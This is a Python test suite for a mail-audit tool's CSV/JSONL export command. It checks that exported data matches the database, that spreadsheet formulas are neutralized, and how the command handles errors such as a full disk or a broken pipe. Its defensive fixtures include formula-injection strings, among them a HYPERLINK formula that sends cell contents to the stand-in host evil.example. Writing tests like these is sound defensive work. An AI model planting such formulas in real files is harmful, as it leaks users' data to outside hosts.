#!/usr/bin/env python3
# SPDX-FileCopyrightText: 2026 The Postern authors
# SPDX-License-Identifier: BSD-2-Clause
"""postern export over an audit of hostile texts, parsed back by Python's csv and json; and
what it says when its output goes wrong. usage: export.py [BUILD-FOLDER]"""

import codecs
import csv
import fcntl
import io
import json
import os
import resource
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import termios
import time
import unittest

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import postgres  # noqa: E402
import schema  # noqa: E402

BUILD = os.path.abspath(sys.argv.pop(1) if len(sys.argv) > 1 and os.path.isdir(sys.argv[1]) else ".")
VIEWS = {"messages": "mail", "recipients": "mail_recipients", "refusals": "refused", "charges": "mail_charges",
         "signatures": "mail_signatures"}
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HOSTILE = [
    b"=1+1", b"+1", b"-1", b"@SUM(A1)", b"\t=1", b"\r=1", b"\n=1", b"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    b"'=1", b"'", b"''", b"\"", b"\"\"", b"a,b", b"a;b", b"a\tb", b"a\r\nb", b"a\nb", b" a ", b"a\"b,\"c", b"\\", b"\\n", b"\\u0041",
    b"=", b"-", b"\xef\xbc\x9d1+1", b"\xef\xbc\xa0SUM", b"\xe2\x80\xae=1", b"\x01\x02\x1b[31m\x7f", b"caf\xc3\xa9", b"caf\xe9", b"\xe9",
    b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82", b"a\xe2\x82b", b"\xf0\x9f\x93\xa7", b"\xef\xbb\xbf=1",
    b"</script>", b"null", b"007", b"1e5", b"{}", b"x" * 10000, b"\xe9" * 3000,
]
START = 1795000000000

codecs.register_error("each", lambda e: ("\ufffd" * (e.end - e.start), e.end))


def decoded(octets):
    """Each octet that is no UTF-8 as U+FFFD."""
    return octets.decode("utf-8", "each") if isinstance(octets, bytes) else octets


def run(*words, **more):
    more.setdefault("stdout", subprocess.PIPE)
    return subprocess.run([os.path.join(BUILD, "postern"), "export"] + list(words), stderr=subprocess.PIPE, timeout=120, **more)


class Export(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.folder = tempfile.mkdtemp(prefix="postern-export-")
        cls.url = "sqlite:" + os.path.join(cls.folder, "audit.db")
        audit = cls.audit = schema.Database(cls.url[7:])
        for i, text in enumerate(HOSTILE):
            id, time = "M%03d" % i, START + i * 1000 + 7
            audit.add("messages", id=id, time=time, verdict="accept", code=250, app=text, subject=text, sender=text, header_from=text,
                      helo=text, login=text, message_id=text, trace=text + b"\n" + text, size=i, mode="enforce", picked_up=i % 2)
            for k in range(i % 3):
                audit.add("recipients", message_id=id, number=k, address=text, domain=text, place="external", accepted=k % 2, reason=text)
                audit.add("signatures", message_id=id, number=k, domain=text, selector=text, algorithm="rsa-sha256", result=text)
            audit.add("refusals", id="R%03d" % (999 - i), reason=text, stage=("eom", "mail", "rcpt")[i % 3], first_time=time - 500,
                      last_time=time, count=i + 1, verdict="reject", code=550, sender=text, recipient=text, text=text)
        # A message over a limit, for each action; in monitor mode; where nothing is exceeded; held, and let go.
        for i, (over, exceeded, mode, charged) in enumerate(
                ((0, 1, "enforce", 1), (1, 1, "enforce", 0), (2, 1, "enforce", 0), (3, 1, "enforce", 0), (2, 1, "monitor", 1),
                 (2, 0, "enforce", 1), (1, 1, "enforce", 1))):
            id = "C%d" % i
            audit.add("messages", id=id, time=START + 500000 + i, mode=mode, verdict="accept")
            audit.add("charges", message_id=id, number=0, name="crm/messages-per-minute", key="", amount=1, used_before=3, count=2 ** 62,
                      over=0, exceeded=0, charged=charged)
            audit.add("charges", message_id=id, number=1, name="=crm", key="@x", amount=1, used_before=3, count=3, over=over,
                      exceeded=exceeded, charged=charged)
        audit.db.commit()

    @classmethod
    def tearDownClass(cls):
        cls.audit.close()
        shutil.rmtree(cls.folder, ignore_errors=True)

    def export(self, *words):
        done = run("--database", self.url, *words)
        self.assertEqual((done.returncode, done.stderr), (0, b""))
        return done.stdout

    def in_database(self, what):
        """What the view says, texts decoded."""
        db = sqlite3.connect(self.url[7:])
        db.text_factory = bytes
        names = self.audit.columns(VIEWS[what])
        order = "last_time, rowid" if what == "refusals" else "time, message_id, number" if "number" in names else "time, id"
        order = order.replace(", rowid", "")
        return names, [tuple(map(decoded, row)) for row in db.execute("SELECT * FROM %s ORDER BY %s" % (VIEWS[what], order))]

    def test_csv_is_what_the_views_say(self):
        for what in VIEWS:
            with self.subTest(what):
                names, rows = self.in_database(what)
                octets = self.export("--what", what)
                said = list(csv.reader(io.StringIO(octets.decode("utf-8", "strict"), newline=""), strict=True))
                self.assertEqual(said[0], names)
                self.assertEqual(len(said) - 1, len(rows))
                for cells, row in zip(said[1:], rows):
                    for cell, value in zip(cells, row):
                        if isinstance(value, int):
                            self.assertEqual(cell, str(value))
                        else:
                            self.assertFalse(cell.startswith(FORMULA), cell)
                            self.assertEqual(cell[1:] if cell.startswith("'") else cell, value)

    def test_lines_end_as_in_rfc_4180(self):
        lines = self.export("--what", "charges").split(b"\r\n")
        self.assertEqual(lines[-1], b"")
        self.assertFalse([line for line in lines if b"\n" in line or b"\r" in line])

    def test_json_is_what_the_views_say(self):
        for what in VIEWS:
            with self.subTest(what):
                names, rows = self.in_database(what)
                lines = self.export("--what", what, "--format", "jsonl").decode("utf-8", "strict").split("\n")
                self.assertEqual(lines.pop(), "")
                self.assertEqual([list(json.loads(line).items()) for line in lines], [list(zip(names, row)) for row in rows])

    def test_a_server_says_the_same(self):
        if postgres.binaries() is None:
            if os.environ.get("CI") == "true":
                self.fail("no PostgreSQL server is installed")
            self.skipTest("no PostgreSQL server is installed")
        with postgres.Postgres() as server:
            url = schema.to_postgres(server, self.url[len("sqlite:"):])
            for what in VIEWS:
                for form in ("csv", "jsonl"):
                    done = run("--database", url, "--what", what, "--format", form)
                    self.assertEqual((done.returncode, done.stderr), (0, b""))
                    self.assertEqual(done.stdout.split(b"\n"), self.export("--what", what, "--format", form).split(b"\n"), what + form)

    def test_times(self):
        def ids(*words):
            return [row["id"] for row in csv.DictReader(io.StringIO(self.export(*words).decode(), newline=""))]
        at = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(START // 1000 + 3))
        until = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(START // 1000 + 5))
        self.assertEqual(ids("--since", at, "--until", until), ["M003", "M004"])
        self.assertEqual(ids("--until", at), ["M000", "M001", "M002"])
        self.assertEqual(ids("--since", at, "--until", until, "--what", "refusals"), ["R996", "R995"])
        self.assertEqual(ids("--since", until, "--until", at), [])

    def test_nothing_is_a_head_or_nothing(self):
        self.assertEqual(self.export("--until", "1999-01-01").count(b"\r\n"), 1)
        self.assertEqual(self.export("--until", "1999-01-01", "--format", "jsonl"), b"")

    def test_a_file(self):
        path = os.path.join(self.folder, "out.csv")
        self.assertEqual(self.export("-o", path), b"")
        with open(path, "rb") as f:
            self.assertEqual(f.read(), self.export())
        done = run("--database", self.url, "-o", path)
        self.assertEqual(done.returncode, 1)
        self.assertIn(b"out.csv: it exists", done.stderr)

    def test_policy_file_names_the_database(self):
        policy = os.path.join(self.folder, "postern.yaml")
        with open(policy, "w") as f:
            f.write("listen: unix:/tmp/none.sock\ndatabase: %s\ntenants:\n  contoso:\n    accepted-domains: a.txt\n"
                    "    next-hop: mx.example\n" % self.url)
        with open(os.path.join(self.folder, "a.txt"), "w") as f:
            f.write("contoso.com\n")
        done = run("-c", policy)
        self.assertEqual((done.returncode, done.stdout), (0, self.export()))
        with open(policy, "a") as f:
            f.write("nonsense: 1\n")
        done = run("-c", policy)
        self.assertEqual((done.returncode, done.stdout), (1, b""))
        self.assertIn(b"nonsense", done.stderr)

    def test_wrong_command_lines(self):
        for words, text in ((["--what", "mail"], b"--what takes"), (["--format", "xml"], b"--format takes"),
                            (["--since", "soon"], b"--since takes"), (["--until", ""], b"--until takes"),
                            (["x"], b"one argument too many"), (["--nonsense"], b"usage")):
            done = run("--database", self.url, *words)
            self.assertEqual((done.returncode, done.stdout), (2, b""), words)
            self.assertIn(text, done.stderr)

    def test_no_database(self):
        done = run("--database", self.url + ".none", "-o", os.path.join(self.folder, "none.csv"))
        self.assertEqual(done.returncode, 1)
        self.assertIn(b"audit.db.none: No such file", done.stderr)
        self.assertFalse(os.path.exists(os.path.join(self.folder, "none.csv")))

    def test_full_disk(self):
        with open("/dev/full", "wb") as full:
            done = run("--database", self.url, stdout=full)
        self.assertEqual(done.returncode, 1)
        self.assertEqual(done.stderr, b"postern export: standard output: No space left on device\n")

    def test_file_that_grows_too_large_is_taken_away(self):
        path = os.path.join(self.folder, "large.csv")

        def small():
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
            resource.setrlimit(resource.RLIMIT_FSIZE, (5000, 5000))
        done = run("--database", self.url, "-o", path, preexec_fn=small)
        self.assertEqual(done.returncode, 1)
        self.assertEqual(done.stderr, b"postern export: %s: File too large\n" % path.encode())
        self.assertFalse(os.path.exists(path))

    def test_reader_that_goes_away(self):
        reading, writing = os.pipe()
        os.close(reading)
        done = run("--database", self.url, stdout=writing)
        os.close(writing)
        self.assertEqual(done.returncode, 1)
        self.assertEqual(done.stderr, b"postern export: standard output: Broken pipe\n")


class Large(unittest.TestCase):
    """More than a slice, unevenly spread."""
    MANY = 7000

    @classmethod
    def setUpClass(cls):
        cls.folder = tempfile.mkdtemp(prefix="postern-export-")
        cls.path = os.path.join(cls.folder, "audit.db")
        audit = schema.Database(cls.path)
        times = [1000, START // 2] + [START] * 3000 + [START + i for i in range(1000)] + [START + i * 60000 for i in range(1, cls.MANY - 4001)]
        for i, at in enumerate(times):
            audit.add("messages", id="%05d" % i, time=at, trace="x" * 3000)
            audit.add("refusals", id="%05d" % i, reason="r", stage="eom" if i % 2 else "mail", first_time=at - 3 * (i % 1000), last_time=at,
                      count=1, text="y" * 2000)
        audit.close()
        cls.times = sorted(times)

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.folder, ignore_errors=True)

    def test_every_row_once_in_order(self):
        for what, key in (("messages", "time"), ("refusals", "last_time")):
            done = run("--database", "sqlite:" + self.path, "--what", what, "--format", "jsonl")
            rows = [json.loads(line) for line in done.stdout.decode().splitlines()]
            self.assertEqual((done.returncode, len(rows)), (0, len(self.times)), what)
            self.assertEqual([row[key] for row in rows], self.times)
            self.assertEqual(len({row["id"] for row in rows}), len(rows))

    def test_who_reads_slowly_keeps_no_transaction_open(self):
        export = subprocess.Popen([os.path.join(BUILD, "postern"), "export", "--database", "sqlite:" + self.path], stdout=subprocess.PIPE)
        try:
            self.assertEqual(export.stdout.read(2), b"at")
            # It waits for us in the midst of the rows. A writer goes on, and gets its log back.
            waiting = b""
            for _ in range(200):
                before, waiting = waiting, fcntl.ioctl(export.stdout, termios.FIONREAD, b"    ")
                if waiting == before and int.from_bytes(waiting, sys.byteorder) > 4096:
                    break
                time.sleep(0.3)
            self.assertIsNone(export.poll())
            db = sqlite3.connect(self.path)
            db.execute("UPDATE messages SET size = size + 1 WHERE id = '00000'")
            db.commit()
            self.assertEqual(db.execute("PRAGMA wal_checkpoint(TRUNCATE)").fetchone()[0], 0)
            db.close()
        finally:
            rest = export.stdout.read()
            export.stdout.close()
            export.wait()
        self.assertEqual((export.returncode, rest.count(b"\r\n")), (0, len(self.times) + 1))


if __name__ == "__main__":
    unittest.main()
